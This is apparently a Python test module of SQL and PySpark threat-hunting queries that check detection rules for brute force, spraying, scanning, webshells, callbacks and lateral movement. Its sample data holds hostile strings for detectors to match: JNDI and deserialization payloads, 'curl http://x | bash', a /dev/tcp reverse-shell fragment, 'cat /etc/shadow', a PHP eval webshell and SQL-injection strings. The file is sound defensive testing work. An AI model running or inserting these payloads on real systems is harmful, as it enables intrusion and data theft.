"""Queries for the playbook rules."""

from __future__ import annotations

from pyspark.sql import functions as F

from huntframe.operators import playbooks as ops
from huntframe.operators.windows import DAY, HOUR, burst, first_rows
from huntframe.plans.base import AUTH, WEB, Rendered, auth, matches, q, query, queue_sql, table, web
from huntframe.plans.traffic import FLOW
from huntframe.rules import auth as auth_rules

TIES = ("src_file", "line_no")

#: What a playbook rule looks for, by remainder.
_SAMPLES = (
    "${jndi:ldap://x}", '{"@type":"com.x.Y"}', '{"@class":"java.lang.X"}', "<dynamic-proxy>", "!!javax.script.M", "T(java.lang.Runtime)", "(#_memberAccess)", "freemarker.template.utility.Execute",
    "{{x.__globals__}}", "; whoami", "curl http://x | bash", "echo x | base64 -d | bash", "bash -i >& /dev/tcp/1", "frpc -c x", "cat /etc/shadow", "wmiexec.py x", "1 union all select 2", "sleep(5)",
    "extractvalue(1)", "information_schema", "; drop table x", "load_file(1)", "/*!50000*/", "ORA-00942", "into outfile 1", "eval($_POST[1])", "ProcessBuilder(request.x)", "crontab -e /tmp/x", "plain",
)
TEXT = Rendered(
    "events",
    {
        "us": "{us}",
        "line_no": "event_id",
        "src_file": "'events'",
        "src_ip": "concat('10.0.', user_id % 40, '.5')",
        "body": f"CASE event_id % {len(_SAMPLES)} " + " ".join(f"WHEN {i} THEN {q(s).replace('$', chr(36))}" for i, s in enumerate(_SAMPLES)) + " END",
        "ua": "CASE user_id % 5 WHEN 0 THEN 'sqlmap/1' WHEN 1 THEN 'hydra' WHEN 2 THEN 'antSword/v2' ELSE 'Mozilla' END",
        "user": "CASE user_id % 3 WHEN 0 THEN 'root' WHEN 1 THEN 'postgres' ELSE 'alice' END",
    },
)
_FIELDS = {"text": "body", "ua": "ua", "user": '"user"'}


@query("plb_patterns", f"WITH {TEXT.sql('x')} " + " UNION ALL ".join(f"SELECT line_no, {q(r)} AS rule_id FROM x WHERE {matches(_FIELDS[f], p)}" for r, f, p in ops.PATTERNS))
def plb_patterns(spark, sf):
    rows = TEXT.spark(spark, sf)
    return ops.patterns_hit(rows, {"text": F.col("body"), "ua": F.col("ua"), "user": F.col("user")}).select("line_no", "rule_id")


_A, _W = AUTH.sql("a"), WEB.sql("w")
_FAIL = "starts_with(msg, 'ssh-fail')"
#: PLB-BF-001 to 003 are the same burst over different windows; here with thresholds that events reach.
LEVELS = (("PLB-BF-001", HOUR, 2), ("PLB-BF-002", DAY, 3), ("PLB-BF-003", 7 * DAY, 6))


def _burst(rule: str, window: int, rows: int) -> str:
    return (
        f"SELECT {q(rule)} AS rule_id, src_ip, line_no, n FROM (SELECT *, {queue_sql('src_ip', window)} AS n FROM a WHERE {_FAIL}) "
        f"WHERE n >= {rows} QUALIFY row_number() OVER (PARTITION BY src_ip ORDER BY us, line_no) = 1"
    )


@query("plb_failure_bursts", f"WITH {_A} " + " UNION ALL ".join(f"({_burst(*x)})" for x in LEVELS))
def plb_failure_bursts(spark, sf):
    failures = auth_rules.failures(auth(spark, sf))
    out = None
    for rule, window, rows in LEVELS:
        part = burst(failures, ["src_ip"], "us", TIES, window, rows).select(F.lit(rule).alias("rule_id"), "src_ip", "line_no", "n")
        out = part if out is None else out.unionByName(part)
    return out


@query(
    "plb_spray",
    f"""WITH {_A}, t AS (SELECT concat('10.9.9.', user_id % 3) AS src_ip, concat('u', event_id % 400) AS u, count(*) AS tries FROM a WHERE {_FAIL} GROUP BY ALL)
    SELECT src_ip, count(*) AS users, max(tries) AS most FROM t GROUP BY src_ip HAVING count(*) >= 20 AND max(tries) <= 12""",
)
def plb_spray(spark, sf):
    rows = auth_rules.failures(auth(spark, sf)).withColumns({"src_ip": F.expr("concat('10.9.9.', user_id % 3)"), "user": F.expr("concat('u', event_id % 400)")})
    return ops.sprays(rows, 20, 12)


@query(
    "plb_refused_logins",
    f"""WITH {_W} SELECT src_ip, make_timestamp(us // 86400000000 * 86400000000)::VARCHAR AS bucket, count(*) AS posts, count(*) FILTER (event_id % 4 <> 0) AS refused FROM w GROUP BY ALL
    HAVING count(*) >= 4 AND count(*) FILTER (event_id % 4 <> 0) > 0.7 * count(*)""",
)
def plb_refused_logins(spark, sf):
    rows = web(spark, sf).withColumns({"method": F.lit("POST"), "uri": F.lit("/admin/login"), "status": F.expr("CASE WHEN event_id % 4 <> 0 THEN 401 ELSE 200 END")})
    return ops.refused_logins(rows, "1 day", 4).withColumn("bucket", F.col("bucket").cast("string"))


@query("plb_refused_panels", f"WITH {_W} SELECT src_ip, count(*) AS refused FROM w WHERE event_id % 3 = 0 GROUP BY src_ip HAVING count(*) >= 20")
def plb_refused_panels(spark, sf):
    rows = web(spark, sf).withColumns({"uri": F.lit("/manager/html"), "status": F.expr("CASE WHEN event_id % 3 = 0 THEN 403 ELSE 200 END")})
    return ops.refused_panels(rows)


@query(
    "plb_failure_runs",
    f"""WITH {_A}, r AS (SELECT *, sum(CASE WHEN event_type = 'purchase' THEN 1 ELSE 0 END) OVER (PARTITION BY src_ip ORDER BY us, line_no ROWS UNBOUNDED PRECEDING) AS run FROM a)
    SELECT src_ip, min(us) AS start_us, max(us) AS end_us, count(*) AS failures FROM r WHERE event_type <> 'purchase' GROUP BY src_ip, run HAVING count(*) >= 10""",
)
def plb_failure_runs(spark, sf):
    return ops.failure_runs(auth(spark, sf), ["src_ip"], F.col("event_type") != "purchase", TIES, 10)


@query("plb_night_first_logins", f"""WITH {_A}, f AS (SELECT concat('n', event_id % 300) AS u, min(us) AS us FROM a WHERE starts_with(msg, 'ssh-success') GROUP BY u) SELECT u, us FROM f WHERE us // 3600000000 % 24 < 6""")
def plb_night_first_logins(spark, sf):
    rows = auth_rules.successes(auth(spark, sf)).withColumn("user", F.expr("concat('n', event_id % 300)"))
    return ops.night_first_logins(first_rows(rows, ["user"], "us", TIES)).select(F.col("user").alias("u"), "us")


def _wide(key: str, value: str, window: int, at_least: int, source: str, name: str, where: str = "true") -> str:
    keys = key.split(", ")
    same = " AND ".join(f"b.{k} = f.{k}" for k in keys)
    return f"""WITH {source}, f AS (SELECT * FROM {name} WHERE {where}), k AS (SELECT f.*, (SELECT count(DISTINCT b.{value}) FROM f b WHERE {same} AND b.us BETWEEN f.us - {window} AND f.us AND b.line_no <= f.line_no) AS hosts FROM f)
    SELECT {key}, line_no, hosts FROM k WHERE hosts >= {at_least} QUALIFY row_number() OVER (PARTITION BY {key} ORDER BY us, line_no) = 1"""


@query("plb_wide_scans", _wide("src_ip, dst_port", "dst_ip", 2_000_000_000, 2, FLOW.sql("z"), "z"))
def plb_wide_scans(spark, sf):
    return ops.wide_scans(FLOW.spark(spark, sf), TIES, 2_000_000_000, 2).select("src_ip", "dst_port", "line_no", "hosts")


@query("plb_many_hosts", _wide('"user"', "src_ip", DAY, 3, _A, "a"))
def plb_many_hosts(spark, sf):
    return ops.many_hosts(auth(spark, sf), "user", "src_ip", TIES, DAY, 3).select("user", "line_no", "hosts")


@query(
    "plb_boolean_pairs",
    f"""WITH {_W} SELECT src_ip, min(us) FILTER (event_id % 20 = 0) AS first_us, min(us) FILTER (event_id % 20 = 1) AS second_us FROM w GROUP BY src_ip HAVING first_us IS NOT NULL AND second_us IS NOT NULL""",
)
def plb_boolean_pairs(spark, sf):
    rows = web(spark, sf).withColumn("uri", F.expr("CASE event_id % 20 WHEN 0 THEN '/?id=1 and 1=1' WHEN 1 THEN '/?id=1 and 1=2' ELSE '/' END"))
    return ops.in_both(rows, ["src_ip"], F.col("uri").rlike(r"(?i)and\s+1=1"), F.col("uri").rlike(r"(?i)and\s+1=2"))


@query("plb_scanner_variants", f"WITH {_W} SELECT src_ip, count(DISTINCT uri) AS uris FROM w WHERE contains(ua, 'Nuclei') GROUP BY src_ip HAVING count(DISTINCT uri) >= 20")
def plb_scanner_variants(spark, sf):
    return ops.many_variants(web(spark, sf))


@query("plb_double_encoded", "SELECT event_id, event_id % 9 = 0 AS hit FROM events")
def plb_double_encoded(spark, sf):
    uri = F.expr("CASE event_id % 9 WHEN 0 THEN '/?q=1%2520union%2520select' WHEN 1 THEN '/?q=%2541' WHEN 2 THEN '/?q=union%20select' WHEN 3 THEN '/?q=%zz' ELSE '/' END")
    return table(spark, sf, "events").select("event_id", ops.double_encoded(uri).alias("hit"))


@query("plb_outsized", f"WITH {_W}, m AS (SELECT event_type, avg(bytes) AS mean FROM w GROUP BY event_type) SELECT line_no FROM w JOIN m USING (event_type) WHERE bytes > 4.0 * mean")
def plb_outsized(spark, sf):
    return ops.outsized(web(spark, sf), F.col("event_type"), F.col("bytes"), 4.0).select("line_no")


_SHORT = "CASE event_id % 12 WHEN 0 THEN '/a.jsp' WHEN 1 THEN '/x1.php' WHEN 2 THEN '/upload/y.php' WHEN 3 THEN '/static/z.aspx' ELSE '/index.html' END"
_STATUS = "CAST(CASE event_id % 3 WHEN 0 THEN 500 ELSE 200 END AS INT)"


def _scripts(spark, sf):
    return web(spark, sf).withColumns({"uri": F.expr(_SHORT), "status": F.expr(_STATUS)})


@query(
    "plb_short_scripts",
    f"WITH s AS (SELECT {_SHORT} AS uri, {_STATUS} AS status FROM events) SELECT uri, count(*) AS hits, count(*) FILTER (status = 200) AS ok, count(*) FILTER (status >= 500) AS failed FROM s WHERE {matches('uri', ops.SHORT_SCRIPT)} GROUP BY uri",
)
def plb_short_scripts(spark, sf):
    return ops.short_scripts(_scripts(spark, sf))


@query("plb_static_scripts", f"WITH s AS (SELECT event_id AS line_no, {_SHORT} AS uri, {_STATUS} AS status FROM events) SELECT line_no FROM s WHERE {matches('uri', ops.STATIC_SCRIPT)} AND status = 200")
def plb_static_scripts(spark, sf):
    return ops.static_scripts(_scripts(spark, sf)).select("line_no")


@query(
    "plb_uploads_used",
    f"""WITH {_W}, s AS (SELECT *, concat('/p', event_id % 90) AS path FROM w WHERE status = 200), l AS (SELECT *, lag(method) OVER o AS was, lag(us) OVER o AS was_us FROM s WINDOW o AS (PARTITION BY path ORDER BY us, line_no))
    SELECT path, line_no FROM l WHERE was = 'POST' AND us - was_us <= {12 * HOUR}""",
)
def plb_uploads_used(spark, sf):
    return ops.uploads_used(web(spark, sf), F.expr("concat('/p', event_id % 90)"), TIES, 12 * HOUR).select("path", "line_no")


@query("plb_nested_decoders", "SELECT page_id, page_id % 4 = 3 AS hit FROM pages")
def plb_nested_decoders(spark, sf):
    text = F.concat(F.col("html"), F.repeat(F.lit("base64_decode("), (F.col("page_id") % 4).cast("int")))
    return table(spark, sf, "pages").select("page_id", ops.nested_decoders(text).alias("hit"))


@query("plb_block_sized", "SELECT event_id, (event_id % 40) > 15 AND (event_id % 40) % 16 = 0 AS hit FROM events")
def plb_block_sized(spark, sf):
    size = (F.col("event_id") % 40).cast("int")
    return table(spark, sf, "events").select("event_id", ops.block_sized(F.base64(F.repeat(F.lit("x"), size).cast("binary"))).alias("hit"))


@query("plb_fixed_size", "SELECT user_id, count(*) AS n, 10::BIGINT AS least FROM events GROUP BY user_id HAVING count(*) >= 3 AND user_id % 2 = 0")
def plb_fixed_size(spark, sf):
    rows = table(spark, sf, "events").withColumns({"size": F.expr("CASE WHEN user_id % 2 = 0 THEN 10 ELSE event_id END"), "entropy": F.lit(7.9)})
    return ops.fixed_size(rows, ["user_id"]).select("user_id", "n", "least")


@query("plb_new_places", f"""WITH {_A} SELECT line_no FROM a WHERE starts_with(msg, 'ssh-success') AND "user" NOT IN (SELECT concat('u', n_nationkey) FROM nation)""")
def plb_new_places(spark, sf):
    known = table(spark, sf, "nation").select(F.concat(F.lit("u"), F.col("n_nationkey").cast("string")).alias("user"))
    return ops.new_places(auth_rules.successes(auth(spark, sf)), known, ["user"]).select("line_no")


@query(
    "plb_burst_then_command",
    f"""WITH {_A}, s AS (SELECT * FROM a WHERE starts_with(msg, 'ssh-success')), c AS (SELECT src_ip, us, line_no FROM a WHERE contains(msg, 'COMMAND='))
    SELECT s.line_no, arg_min(c.line_no, c.us) AS next FROM s JOIN c ON c.src_ip = s.src_ip AND c.us > s.us AND c.us - s.us <= {DAY} GROUP BY s.line_no""",
)
def plb_burst_then_command(spark, sf):
    rows = auth(spark, sf)
    commands = rows.where(F.col("msg").contains("COMMAND="))
    return ops.followed_by(auth_rules.successes(rows), commands, ["src_ip"], DAY, "line_no").select("line_no", "next")


@query("waf_shared_payloads", "SELECT sha256(concat('p', event_id % 500)) AS payload_sha256, count(DISTINCT user_id) AS sources FROM events GROUP BY payload_sha256 HAVING count(DISTINCT user_id) >= 3")
def waf_shared_payloads(spark, sf):
    alerts = table(spark, sf, "events").select(F.expr("concat('p', event_id % 500)").alias("payload"), F.col("user_id").alias("src_ip"))
    return ops.shared_payloads(alerts)


@query("waf_wide_sources", "SELECT user_id AS src_ip, count(DISTINCT event_type) AS kinds FROM events GROUP BY user_id HAVING count(DISTINCT event_type) >= 3")
def waf_wide_sources(spark, sf):
    return ops.wide_sources(table(spark, sf, "events").select(F.col("user_id").alias("src_ip"), "event_type"), "event_type", 3)


@query("callback_domains", "SELECT event_id FROM events WHERE event_id % 10 IN (0, 1)")
def callback_domains(spark, sf):
    from huntframe.operators import iocs

    known = iocs.indicators([("domain", f"*.{d}", "high", "c2:callback") for d in ops.CALLBACK_DOMAINS])
    rows = table(spark, sf, "events").withColumn("qname", F.expr("CASE event_id % 10 WHEN 0 THEN concat('k', event_id, '.dnslog.cn') WHEN 1 THEN 'a.b.ceye.io' WHEN 2 THEN 'ceye.io' ELSE 'www.example.com' END"))
    return iocs.match_domains(rows, known, F.col("qname")).where("domain_ioc IS NOT NULL").select("event_id")


@query("same_agent_many_sources", f"WITH {_W} SELECT ua, count(DISTINCT src_ip) AS kinds FROM w GROUP BY ua HAVING count(DISTINCT src_ip) >= 2")
def same_agent_many_sources(spark, sf):
    rows = web(spark, sf).select(F.col("ua").alias("src_ip"), F.col("src_ip").alias("address"))
    return ops.wide_sources(rows, "address", 2).select(F.col("src_ip").alias("ua"), "kinds")


@query("cross_log_sources", f"""WITH {_W}, {_A} SELECT DISTINCT w.src_ip FROM w WHERE status = 404 AND EXISTS (SELECT 1 FROM a WHERE a.src_ip = w.src_ip AND {_FAIL})""")
def cross_log_sources(spark, sf):
    refused = web(spark, sf).where("status = 404").select("src_ip").distinct()
    return refused.join(auth_rules.failures(auth(spark, sf)).select("src_ip").distinct(), "src_ip", "left_semi")




_Z = FLOW.sql("z")


@query("plb_callbacks", f"WITH {_Z} SELECT line_no FROM z WHERE dst_port IN (1389, 389, 1099, 1090, 4444, 8888) AND l_partkey % 2 = 0")
def plb_callbacks(spark, sf):
    rows = FLOW.spark(spark, sf).withColumn("dst_ip", F.expr("CASE WHEN l_partkey % 2 = 0 THEN '8.8.8.8' ELSE dst_ip END"))
    return ops.callbacks(rows).select("line_no")


@query(
    "plb_long_heartbeats",
    f"WITH {_Z} SELECT src_ip, dst_ip, dst_port, count(*) AS flows, sum(duration_s) AS seconds FROM z WHERE dst_port NOT IN (445, 3389, 7000) AND duration_s >= 2400 GROUP BY ALL",
)
def plb_long_heartbeats(spark, sf):
    return ops.long_heartbeats(FLOW.spark(spark, sf), (445, 3389, 7000), 2400.0)


@query("plb_slow_exfiltration", f"WITH {_Z} SELECT src_ip, CAST(sum(bytes_a2b) AS BIGINT) AS sent, max(bytes_a2b) AS largest FROM z WHERE duration_s >= 1200 GROUP BY src_ip HAVING sum(bytes_a2b) >= 2000000000 AND max(bytes_a2b) < 200000000")
def plb_slow_exfiltration(spark, sf):
    return ops.slow_exfiltration(FLOW.spark(spark, sf), 2_000_000_000, 1200.0)


@query("plb_catalog_reads", "SELECT event_id FROM events WHERE event_id % 9 = 0 AND concat('u', user_id % 40) NOT IN (SELECT concat('u', n_nationkey) FROM nation)")
def plb_catalog_reads(spark, sf):
    rows = table(spark, sf, "events").withColumns({"user": F.expr("concat('u', user_id % 40)"), "body": F.expr("CASE event_id % 9 WHEN 0 THEN 'select * from information_schema.tables' ELSE 'select 1' END")})
    known = table(spark, sf, "nation").select(F.concat(F.lit("u"), F.col("n_nationkey").cast("string")).alias("user"))
    return ops.catalog_reads(rows, F.col("body"), known).select("event_id")


@query("plb_wmi_and_tickets", "SELECT event_id, CASE WHEN event_id % 10 = 0 THEN 'PLB-LM-004' ELSE 'PLB-LM-014' END AS rule_id FROM events WHERE event_id % 10 IN (0, 1)")
def plb_wmi_and_tickets(spark, sf):
    rows = table(spark, sf, "events").withColumn("id", F.col("event_id")).withColumn("event_id", F.expr("CASE event_id % 10 WHEN 0 THEN 4688 WHEN 1 THEN 4769 ELSE 1 END"))
    wmi = ops.wmi_children(rows, F.lit("wmiprvse.exe"), F.lit("cmd.exe")).select(F.col("id").alias("event_id"), F.lit("PLB-LM-004").alias("rule_id"))
    return wmi.unionByName(ops.odd_tickets(rows, F.lit("KRBTGT")).select(F.col("id").alias("event_id"), F.lit("PLB-LM-014").alias("rule_id")))


@query(
    "plb_share_log_ins",
    f"""WITH e AS (SELECT *, epoch_us(ts) AS us, user_id % 20 AS u FROM events), l AS (SELECT * FROM e WHERE event_type = 'purchase' AND event_id % 2 = 0), s AS (SELECT * FROM e WHERE event_type = 'click' AND event_id % 3 = 0)
    SELECT l.event_id AS record_id, arg_min(s.event_id, s.us) AS next FROM l JOIN s ON s.u = l.u AND s.us > l.us AND s.us - l.us <= {12 * HOUR} GROUP BY l.event_id""",
)
def plb_share_log_ins(spark, sf):
    rows = table(spark, sf, "events").select(
        F.unix_micros(F.col("ts").cast("timestamp")).alias("us"), F.col("event_id").alias("record_id"), F.lit("h").alias("computer"), F.expr("concat('u', user_id % 20)").alias("user"),
        F.expr("CASE event_type WHEN 'purchase' THEN 4624 WHEN 'click' THEN 5145 ELSE 1 END").alias("event_id"), F.expr("CASE event_id % 2 WHEN 0 THEN '3' ELSE '2' END").alias("logon"),
        F.expr("CASE event_id % 3 WHEN 0 THEN concat(chr(92), 'ADMIN$') ELSE 'public' END").alias("share"), F.lit("f").alias("src_file"), F.col("event_id").alias("line_no"),
    )
    return ops.share_log_ins(rows, F.col("logon"), F.col("share"), 12 * HOUR).select("record_id", "next")
